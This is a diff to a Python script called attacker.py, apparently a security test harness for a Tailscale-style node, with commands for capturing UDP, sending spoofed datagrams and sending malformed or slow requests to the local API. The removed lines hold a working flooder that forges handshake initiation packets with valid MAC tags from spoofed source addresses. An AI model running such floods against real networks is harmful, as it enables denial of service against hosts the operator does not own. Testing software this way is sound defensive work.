@@ -4,10 +4,8 @@
 
     attacker.py capture INTERFACE SECONDS FILE             UDP payloads seen on an interface, as hex lines
     attacker.py datagrams ADDRESS:PORT COUNT SEED FILE DISCO_KEY_HEX SPOOFED_ADDRESS:PORT
-    attacker.py initiations ADDRESS:PORT NODE_KEY_HEX PER_SECOND SECONDS
     attacker.py requests SOCKET COUNT SEED [UID]           at the local API, some of them very slow
 """
-import hashlib
 import os
 import random
 import socket
@@ -110,24 +108,6 @@ def datagrams(to, count, seed, file, disco_hex, spoofed):
     print(f"{count} datagrams in {time.monotonic() - begin:.1f} s")
 
 
-def initiations(to, key_hex, rate, seconds):
-    key = hashlib.blake2s(b"mac1----" + bytes.fromhex(key_hex)).digest()
-    r, pool = random.Random(1), []
-    for _ in range(20_000):
-        m = struct.pack("<I", 1) + r.randbytes(112)
-        pool.append(m + hashlib.blake2s(m, key=key, digest_size=16).digest() + bytes(16))
-    out, rate, seconds, n = RawUdp(endpoint(to)), int(rate), float(seconds), 0
-    begin = time.monotonic()
-    while (passed := time.monotonic() - begin) < seconds:
-        due = int(passed * rate)
-        if n >= due:
-            time.sleep(0.0005)
-        while n < due:
-            out.send(struct.pack("!BBH", 198, 18 + (n >> 16 & 1), n * 40503 & 0xFFFF), 1024 + n % 60000, pool[n % len(pool)])
-            n += 1
-    print(f"{n} initiations in {seconds} s")
-
-
 def malformed(r):
     """One piece of bytes that is no proper request, or a proper one with an improper content."""
     host = "Host: local-tailscaled.sock\r\n"
@@ -206,4 +186,4 @@ def requests(path, count, seed, uid="0"):
 
 
 if __name__ == "__main__":
-    {"capture": capture, "datagrams": datagrams, "initiations": initiations, "requests": requests}[sys.argv[1]](*sys.argv[2:])
+    {"capture": capture, "datagrams": datagrams, "requests": requests}[sys.argv[1]](*sys.argv[2:])
